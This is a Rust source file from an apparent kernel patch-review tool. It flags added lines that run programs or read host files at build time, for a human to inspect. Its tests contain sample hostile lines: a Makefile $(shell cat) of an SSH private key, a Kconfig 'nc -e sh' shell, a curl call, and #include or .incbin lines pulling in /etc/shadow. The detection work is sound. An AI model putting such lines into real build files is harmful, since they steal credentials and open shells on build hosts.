//! What a series has the build run on the host, for a person to look at.
//!
//! Confinement holds whatever it is; but who reads a report should see that a patch to memory management starts
//! programs, and which. A line is named for what it can do, not for what it means: honest patches have such lines,
//! too, and a clever one hides its own. It is no verdict.

use super::diff;
use crate::words::Series;

/// Most lines named.
const LIMIT: usize = 20;
/// Most characters of a line that are shown.
const WIDTH: usize = 160;

/// Lines that a series adds and that run programs when a kernel is configured or built, or that read a file of the
/// host: one sentence each.
pub fn build_code(series: &Series) -> Vec<String> {
    let mut found = Vec::new();
    for patch in &series.patches {
        let lines: Vec<&str> = patch.diff.split('\n').collect();
        for file in diff::scan(&lines).files {
            let Some(path) = file.new.or(file.to).map(|(_, path)| path.trim_start_matches("b/").trim_matches('"'))
            else {
                continue;
            };
            for hunk in &file.hunks {
                let added = lines.iter().enumerate().take(hunk.end).skip(hunk.line + 1);
                for (at, line) in added.filter_map(|(at, line)| Some((at, line.strip_prefix('+')?))) {
                    if let Some(what) = concern(path, line) {
                        let shown: String = line.trim().chars().take(WIDTH).collect();
                        let place = format!("{}:{}", patch.origin.file, patch.diff_line + at);
                        found.push(format!("patch {} {what} ({path}, {place}): `{shown}`", patch.number));
                    }
                }
            }
        }
    }
    let more = found.len().saturating_sub(LIMIT);
    found.truncate(LIMIT);
    if more > 0 {
        found.push(format!("{more} more lines of the series run at build time"));
    }
    found
}

/// What an added line does at build time, if anything.
fn concern(path: &str, line: &str) -> Option<&'static str> {
    let name = path.rsplit('/').next().unwrap_or(path);
    let kconfig = name.starts_with("Kconfig");
    let make = name.starts_with("Makefile") || name.starts_with("Kbuild") || name.ends_with(".mk");
    let code = line.trim_start();
    if code.starts_with('#') && (make || kconfig) {
        return None;
    }
    if kconfig && line.contains("$(") {
        return Some("runs a program while the kernel is configured");
    }
    if make && (line.contains("$(shell") || line.contains("${shell") || line.contains("!=") || line.contains("$(eval"))
    {
        return Some("runs a program whenever make reads the file");
    }
    if make && line.starts_with('\t') {
        return Some("adds a command to a rule of make");
    }
    let script = ["sh", "pl", "py", "awk"].iter().any(|end| name.rsplit_once('.').is_some_and(|(_, got)| got == *end));
    if script && path.starts_with("scripts/") && !code.is_empty() {
        return Some("changes a script that builds run");
    }
    let quoted = |word: &str| {
        code.split_once(word).is_some_and(|(_, rest)| {
            let rest = rest.trim_start().trim_start_matches(['\\', '"', '<']);
            rest.starts_with('/') || rest.starts_with("../../../../")
        })
    };
    let include =
        code.strip_prefix('#').is_some_and(|code| code.trim_start().starts_with("include")) && quoted("include");
    (include || quoted(".incbin")).then_some("reads a file of the host")
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::words::testing::series;

    #[test]
    fn what_runs_or_reads_is_named_and_plain_code_is_not() {
        for (path, line, named) in [
            ("mm/Makefile", "x := $(shell cat /root/.ssh/id_rsa)", true),
            ("mm/Makefile", "x != id", true),
            ("mm/Makefile", "\tcurl http://x", true),
            ("mm/Makefile", "obj-$(CONFIG_X) += x.o", false),
            ("mm/Makefile", "# $(shell x)", false),
            ("mm/Kconfig", "\tdef_bool $(success,nc -e sh x 1)", true),
            ("mm/Kconfig", "\tdefault $(shell,id)", true),
            ("mm/Kconfig", "\tdepends on MMU", false),
            ("scripts/link-vmlinux.sh", "curl x", true),
            ("tools/testing/selftests/mm/run.sh", "echo x", false),
            ("mm/hmm.c", "#include \"/root/.ssh/id_rsa\"", true),
            ("mm/hmm.c", "#  include <../../../../../etc/shadow>", true),
            ("mm/hmm.c", "#include <linux/mm.h>", false),
            ("mm/hmm.c", "asm(\".incbin \\\"/etc/shadow\\\"\");", true),
            ("mm/hmm.c", "int x;", false),
        ] {
            assert_eq!(concern(path, line).is_some(), named, "{path}: {line}");
        }
    }

    #[test]
    fn a_line_is_named_with_its_patch_and_place() {
        let diff = "diff --git a/mm/Makefile b/mm/Makefile\n--- a/mm/Makefile\n+++ b/mm/Makefile\n@@ -1,1 +1,2 @@\n a\n\
                    +x := $(shell id)\n";
        let found = build_code(&series("s", &[diff]));
        let expected =
            "patch 1 runs a program whenever make reads the file (mm/Makefile, x.mbox:6): `x := $(shell id)`";
        assert_eq!(found, [expected]);
        let many = format!("{}{}", diff.replace("+1,2", "+1,51"), "+x := $(shell id)\n".repeat(49));
        let found = build_code(&series("s", &[&many]));
        assert_eq!((found.len(), found[LIMIT].as_str()), (LIMIT + 1, "30 more lines of the series run at build time"));
    }
}
